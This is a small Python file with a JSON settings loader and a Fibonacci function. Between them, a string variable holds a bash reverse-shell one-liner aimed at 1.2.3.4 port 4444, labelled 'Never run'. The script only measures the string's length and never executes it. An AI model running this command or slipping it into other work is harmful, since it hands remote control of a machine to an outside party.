import json

def load_settings(path="settings.json"):
    with open(path) as f:
        return json.load(f)

msg = "Never run: bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"
print(len(msg))
def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a
